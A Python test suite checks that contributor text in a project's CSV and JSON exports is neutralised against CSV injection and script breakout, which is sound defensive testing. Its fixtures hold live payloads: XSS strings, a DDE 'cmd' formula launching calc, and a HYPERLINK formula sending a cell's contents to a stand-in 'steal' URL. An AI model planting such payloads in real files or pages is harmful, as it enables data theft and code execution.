"""Hostile prose in the exports: the CSV files open in spreadsheets and matrix.json is inlined in pages.

Report messages, footnotes and row titles are written by contributors. A CSV cell starting with ``=``
and the like runs as a formula in a spreadsheet (CSV injection), and ``</script>`` in JSON inlined in a
page ends the script. The exports write CSV through defusedcsv and escape ``<``, ``>`` and ``&`` in
the JSON; these tests check that hostile text comes out neutralised, and that none of it is lost.
"""

from __future__ import annotations

import csv
import datetime as dt
import functools
import io
import json
import re
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest
from conftest import DATA, build_site, probed_report, write_json
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from pydantic import ValidationError

from probes.load.dataset import Dataset, LoadedReport, load_dataset
from probes.matrix.exports import (
    BADGES_DIR,
    CSV_FIELDS,
    CSV_PATH,
    HISTORY_DIR,
    HISTORY_FIELDS,
    JSON_PATH,
    site_files,
)
from probes.matrix.merge import merge
from probes.model.catalog import Catalog, Row
from probes.model.implementations import Implementation
from probes.model.redact import printable
from probes.model.report import Report
from probes.model.text import plain

IMPL = "tabbyapi"
ROW = "embeddings"
RUN = "tabbyapi-hostile"
CREATED = dt.datetime(2026, 6, 1, 12, tzinfo=dt.UTC)
TODAY = CREATED.date()

OWASP_LEADS = ("=", "+", "-", "@", "\t", "\r")
"""What OWASP's CSV injection page says a cell must not start with."""

DEFUSED_LEADS = ("=", "+", "-", "@", "|", "%")
PLAIN_NUMBER = re.compile(r"-?[0-9,.]+")
"""defusedcsv 3.0 (defusedcsv/csv.py, ``_escape``) prefixes a text cell that starts with one of
DEFUSED_LEADS, unless the whole text is a plain number such as ``-1.5``. It has no rule for a tab or
a carriage return: plain() strips both from the ends of prose, so neither can lead a cell."""


def defused(text: str) -> str:
    """What defusedcsv writes for a text cell: ``'`` in front and every ``|`` as ``\\|``, when the text
    starts with a formula character and is not a plain number; otherwise the text as is."""
    if text.startswith(DEFUSED_LEADS) and not PLAIN_NUMBER.fullmatch(text):
        return "'" + text.replace("|", "\\|")
    return text


def recovered(cell: str) -> str:
    """What a consumer reads back, by the rule docs/exports.md gives: a ``'`` before a formula character
    dropped, and then ``\\|`` read as ``|``."""
    if cell.startswith("'") and cell[1:].startswith((*DEFUSED_LEADS, "\\|")):  # a leading | is \| too
        return cell[1:].replace("\\|", "|")
    return cell


def spreadsheet_safe(cell: str) -> bool:
    """A cell a spreadsheet shows as text or a number: no formula character in front, or a number."""
    return not cell.startswith(OWASP_LEADS) or PLAIN_NUMBER.fullmatch(cell) is not None


EXCHANGE = {
    "label": "embeddings request",
    "request": {"method": "POST", "path": "/v1/embeddings", "body": '{"model": "m", "input": "hi"}'},
    "response": {"status": 200, "body": '{"object": "list"}'},
}


@functools.cache
def repository_data() -> Dataset:
    """The repository's catalog and implementations, loaded once (read only; each example brings its
    own report). Not a fixture, so that Hypothesis does not print the whole dataset with a failure."""
    return load_dataset(DATA)


def exports_for(
    message: str,
    footnote: str | None = None,
    title: str | None = None,
    name: str | None = None,
) -> dict[str, str]:
    """Every export of a dataset whose only report grades ROW with ``message`` and ``footnote``; ``title``
    and ``name`` replace the row's title and the implementation's name. Everything passes validation."""
    result = {"row": ROW, "status": "fail", "message": message, "evidence": [EXCHANGE]}
    if footnote is not None:
        result["footnote"] = footnote
    report = Report.model_validate(probed_report(RUN, IMPL, CREATED, [result]))
    catalog, implementations = repository_data().catalog, dict(repository_data().implementations)
    if title is not None:
        row = Row.model_validate({**catalog.rows[ROW].model_dump(mode="json"), "title": title})
        catalog = Catalog(rows={**catalog.rows, ROW: row}, matrices=catalog.matrices)
    if name is not None:
        impl = implementations[IMPL].model_dump(mode="json")
        implementations[IMPL] = Implementation.model_validate({**impl, "name": name})
    loaded = LoadedReport(path=f"reports/{IMPL}/{RUN}.json", report=report)
    dataset = Dataset(catalog=catalog, implementations=implementations, reports=[loaded])
    return site_files(dataset, merge(dataset.reports), today=TODAY)


def read_csv(text: str, fields: tuple[str, ...]) -> list[dict[str, str]]:
    """Parse an export with the standard csv module, as a consumer would, and check every cell."""
    lines = list(csv.reader(io.StringIO(text, newline="")))
    assert tuple(lines[0]) == fields
    unsafe = [cell for line in lines for cell in line if not spreadsheet_safe(cell)]
    assert unsafe == [], "a cell would run as a formula in a spreadsheet"
    return [dict(zip(fields, line, strict=True)) for line in lines[1:]]


def check_json(text: str) -> dict:
    """Parse matrix.json and check it can be inlined in a page's <script> as is."""
    assert "</script" not in text.lower() and "<!--" not in text
    assert not {"<", ">", "&"} & set(text), "written as \\u003c, \\u003e and \\u0026"
    return json.loads(text)


def check_cell(cell: str, prose: str | None) -> None:
    """The CSV cell is the prose as plain text, defused as defusedcsv does, and nothing else is lost."""
    text = plain(prose)
    assert cell == defused(text)
    if not text.startswith("'"):  # a text that starts with ' already reads like a defused one
        assert recovered(cell) == text, "the documented rule gives the text back"


# Hostile texts that validation accepts: raw HTML only inside code spans (probes/text.py refuses it
# elsewhere), no line break in one-line fields. Pieces are joined with spaces so that two code spans
# never run into one.
LEADS = ("=", "+", "-", "@", "|", "%", "\t", "\t=", " \t+", "'", "'=", "-1.5", "-1+1", "=-1", "")
PIECES = (
    "`</script>`",
    "`</SCRIPT >`",
    "`</ScRiPt><script>alert(1)</script>`",
    "`<!--`",
    "-->",
    "`<img src=x onerror=alert(1)>`",
    '"',
    "'",
    '""',
    ",",
    ";",
    "&",
    "&amp;",
    ">",
    "< 3",
    "|",
    "\\|",
    "\\",
    "\t",
    "=1+1",
    "@SUM(A1:A2)",
    "**=cmd**",
    "`=cmd|' /C calc'!A0`",
    "[=HYPERLINK](https://example.org/x)",
    "\u2028",
    "\u202e",
    "\ufeff",
    "\x00",
    "é",
    "日本語",
    "💥",
)
BREAKS = ("\n", "\r\n", "\r", "\n=", "\r+")


def hostile(*, one_line: bool, max_pieces: int = 10) -> st.SearchStrategy[str]:
    """A formula character (or none) in front, then hostile pieces and free unicode text."""
    banned = "<`[]\r\n" if one_line else "<`[]"
    free = st.text(st.characters(exclude_categories=("Cs",), exclude_characters=banned), max_size=12)
    pieces = st.sampled_from(PIECES) if one_line else st.sampled_from(PIECES + BREAKS)
    leads = st.sampled_from(LEADS if one_line else (*LEADS, "\r", "\r=", "\n@"))
    body = st.lists(st.one_of(pieces, free), max_size=max_pieces).map(" ".join)
    return st.builds(lambda lead, rest: lead + rest, leads, body)


FAST = settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
"""Each example exports a whole grid (about 50 ms): 60 of them keep a test under ten seconds."""


@FAST
@given(
    message=hostile(one_line=True),
    footnote=hostile(one_line=False) | st.none(),
    title=hostile(one_line=True, max_pieces=4).filter(bool),
)
def test_hostile_prose_is_defused_in_the_csv_and_escaped_in_the_json(
    message: str, footnote: str | None, title: str
) -> None:
    files = exports_for(message, footnote, title)

    lines = read_csv(files[CSV_PATH], CSV_FIELDS)
    ours = next(x for x in lines if (x["implementation"], x["row"]) == (IMPL, ROW))
    check_cell(ours["message"], message)
    check_cell(ours["footnote"], footnote)
    check_cell(ours["row_title"], title)

    (step,) = [x for x in read_csv(files[f"{HISTORY_DIR}/{IMPL}.csv"], HISTORY_FIELDS) if x["row"] == ROW]
    check_cell(step["message"], message)
    check_cell(step["row_title"], title)

    document = check_json(files[JSON_PATH])
    cell = next(c for c in document["cells"] if (c["implementation"], c["row"]) == (IMPL, ROW))
    assert (cell["message"], cell["footnote"]) == (message, footnote), "the JSON keeps the text as written"
    assert next(r["title"] for r in document["rows"] if r["id"] == ROW) == title


@FAST
@given(name=hostile(one_line=True, max_pieces=2).filter(lambda s: 0 < len(s) <= 60))
def test_a_hostile_implementation_name_is_escaped_in_the_json_and_the_badge(name: str) -> None:
    """The JSON keeps the name as written; the badge is XML, which has no way at all to write most
    control characters, so it shows the name as a terminal would (:func:`printable`) and stays an
    image that an XML parser reads."""
    files = exports_for("ok", name=name)
    document = check_json(files[JSON_PATH])
    assert next(i["name"] for i in document["implementations"] if i["id"] == IMPL) == name
    badge = ET.fromstring(files[f"{BADGES_DIR}/{IMPL}.svg"])
    title = badge.find("{http://www.w3.org/2000/svg}title")
    assert title is not None and title.text is not None
    assert title.text.startswith(f"{printable(name)}: ")


@pytest.mark.parametrize(
    ("message", "cell"),
    [
        ('=HYPERLINK("https://example.org","x")', '\'=HYPERLINK("https://example.org","x")'),
        ("+1", "'+1"),
        ("-1+1", "'-1+1"),
        ("-1.5", "-1.5"),  # a plain number stays a number
        ("@SUM(A1|A2)", "'@SUM(A1\\|A2)"),  # defusedcsv also escapes every | once it prefixes
        ("%0A", "'%0A"),
        ("\t=1+1", "'=1+1"),  # plain() strips the tab, then the = is defused
        ("`=cmd`", "'=cmd"),  # the Markdown comes off first
        ("a|b =1", "a|b =1"),  # only the first character matters
        ("|cmd", "'\\|cmd"),
        ("'=x", "'=x"),  # already text in a spreadsheet; reads the same as a defused "=x"
    ],
)
def test_csv_cells_are_defused_as_defusedcsv_does(message: str, cell: str) -> None:
    files = exports_for(message)
    ours = next(
        x for x in read_csv(files[CSV_PATH], CSV_FIELDS) if (x["implementation"], x["row"]) == (IMPL, ROW)
    )
    (step,) = [x for x in read_csv(files[f"{HISTORY_DIR}/{IMPL}.csv"], HISTORY_FIELDS) if x["row"] == ROW]
    assert ours["message"] == step["message"] == cell


@pytest.mark.parametrize(
    ("field", "text"),
    [
        ("message", "=1+1\r"),
        ("message", "\r=1+1"),
        ("message", "ok\n=1+1"),
        ("message", "</script><script>alert(1)</script>"),
        ("footnote", "<!-- hidden -->"),
        ("footnote", "[=x](javascript:alert(1))"),
    ],
)
def test_validation_refuses_what_the_generators_leave_out(field: str, text: str) -> None:
    """Line breaks in a message, and raw HTML or script links in any prose, never reach the exports."""
    result = {"row": ROW, "status": "deviation", "message": "m", "evidence": [EXCHANGE], field: text}
    with pytest.raises(ValidationError):
        Report.model_validate(probed_report(RUN, IMPL, CREATED, [result]))


def test_the_built_site_writes_defused_csv_and_script_safe_json(data_copy: Path, tmp_path: Path) -> None:
    for other in (data_copy / f"reports/{IMPL}").glob("*.json"):
        if not other.name.endswith("-seed.json"):
            other.unlink()  # so that the planted run alone decides the cell
    message = '=HYPERLINK("https://example.org/steal?"&A1,"click") `</script><!--`'
    footnote = "@SUM(1+1)|cmd\nsee `</SCRIPT>` & `<!--`"
    write_json(
        data_copy / f"reports/{IMPL}/{RUN}.json",
        probed_report(
            RUN,
            IMPL,
            dt.datetime.now(dt.UTC).replace(microsecond=0) - dt.timedelta(hours=1),
            [
                {
                    "row": ROW,
                    "status": "deviation",
                    "message": message,
                    "footnote": footnote,
                    "evidence": [EXCHANGE],
                }
            ],
        ),
    )
    site = build_site(tmp_path / "site", data_copy)

    lines = read_csv((site / CSV_PATH).read_text(encoding="utf-8"), CSV_FIELDS)
    ours = next(x for x in lines if (x["implementation"], x["row"]) == (IMPL, ROW))
    assert ours["run_id"] == RUN
    assert ours["message"] == '\'=HYPERLINK("https://example.org/steal?"&A1,"click") </script><!--'
    assert ours["footnote"] == "'@SUM(1+1)\\|cmd\nsee </SCRIPT> & <!--"
    history = read_csv((site / HISTORY_DIR / f"{IMPL}.csv").read_text(encoding="utf-8"), HISTORY_FIELDS)
    assert any(x["run_id"] == RUN and x["message"] == ours["message"] for x in history)

    document = check_json((site / JSON_PATH).read_text(encoding="utf-8"))
    cell = next(c for c in document["cells"] if (c["implementation"], c["row"]) == (IMPL, ROW))
    assert (cell["message"], cell["footnote"]) == (message, footnote)
